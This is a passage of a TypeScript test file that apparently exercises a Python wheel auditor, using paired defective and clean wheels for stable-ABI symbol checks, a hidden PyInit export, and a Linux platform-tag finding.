  // --- stable ABI (src/rules/python/abi3.ts; test/rules/abi3.test.ts)
  {
    check: 'abi3.non-stable-symbol',
    defect: 'PyUnicode_AsUTF8 and _PyObject_GetDictPtr in a cp38-abi3 wheel',
    file: 'demo/abi3bad.abi3.so',
    bad: wheel('cp38-abi3-manylinux_2_17_x86_64', { 'demo/abi3bad.abi3.so': bytesOf(pyFx['abi3bad.so']) }),
    twin: 'stable-ABI symbols only',
    clean: wheel('cp38-abi3-manylinux_2_17_x86_64', { 'demo/abi3ok.abi3.so': bytesOf(pyFx['abi3ok.so']) }),
  },
  {
    check: 'abi3.symbol-too-new',
    defect: 'PyType_GetModule (3.10) in a cp37-abi3 wheel',
    file: 'demo/abi3new.abi3.so',
    bad: wheel('cp37-abi3-manylinux_2_17_x86_64', { 'demo/abi3new.abi3.so': bytesOf(pyFx['abi3new.so']) }),
    twin: 'symbols stable since 3.2',
    clean: wheel('cp37-abi3-manylinux_2_17_x86_64', { 'demo/abi3ok.abi3.so': bytesOf(pyFx['abi3ok.so']) }),
  },

  // --- init function (src/rules/python/init-function.ts; test/rules/python.test.ts)
  {
    check: 'python.missing-init-function',
    defect: 'PyInit_hidden not exported (-fvisibility=hidden)',
    file: 'demo/hidden.cpython-311-x86_64-linux-gnu.so',
    bad: wheel(M217, { 'demo/hidden.cpython-311-x86_64-linux-gnu.so': bytesOf(pyFx['hidden.so']) }),
    twin: 'a module exporting PyInit_other as other',
    clean: wheel(M217, { 'demo/other.cpython-311-x86_64-linux-gnu.so': bytesOf(pyFx['other.so']) }),
  },
];

/** Info, present for every Linux wheel: asserted to appear rather than given a twin. */
const DESERVED_TAG = 'elf.deserved-tag';

// ---------------------------------------------------------------------------
// Running them

testCheckTable(CASES, ['wheel']);
test(`${DESERVED_TAG} appears for a Linux wheel (and for no other)`, async () => {
  const linux = await auditMade(wheel(M217, { 'demo/_new.cpython-311-x86_64-linux-gnu.so': lx('ext-new.so') }));
  assertSane(linux, DESERVED_TAG, ['wheel']);
  const found = linux.findings.filter((f) => f.check === DESERVED_TAG);
  assert.equal(found.length, 1, summary(linux));
  assert.equal(found[0]!.severity, 'info');
  assert.deepEqual(found[0]!.targets, ['linux-x86_64-glibc2.17']);
  assert.equal(found[0]!.evidence.tag, 'manylinux_2_36_x86_64');
  assert.deepEqual(linux.wheel?.deservedPlatformTags, ['manylinux_2_36_x86_64']);

  const clean = await auditMade(wheel(M217, { 'demo/_plain.cpython-311-x86_64-linux-gnu.so': lx('ext-plain.so') }));
  assert.deepEqual(clean.findings.map((f) => f.check), [DESERVED_TAG], summary(clean));
  assert.equal(clean.overall.verdict, 'pass');

  const windows = await auditMade(wheel(WIN, { [PYD]: win('ext-py311.pyd') }));
  assert.deepEqual(windows.findings.filter((f) => f.check === DESERVED_TAG), []);
});

testTableCovers('wheels', CASES, ['wheel'], [DESERVED_TAG]);
